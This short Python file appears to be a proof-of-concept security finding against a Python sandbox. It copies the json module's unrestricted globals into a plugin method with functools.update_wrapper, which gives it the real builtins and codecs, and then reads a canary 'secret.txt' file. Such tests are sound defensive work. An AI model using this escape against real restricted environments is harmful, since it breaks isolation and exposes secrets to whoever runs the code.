"""Finding 1: copy json's module globals (real builtins, codecs) into ours with functools.update_wrapper."""
import functools
import json


class Wrapper:
    name = "escape_update_wrapper"

    def plan(self, ctx):
        functools.update_wrapper(Wrapper.plan, json.loads, assigned=(), updated=("__globals__",))
        return {"guidance": codecs.open("/tmp/bilevel-hostile-canary/secret.txt").read()[:390]}
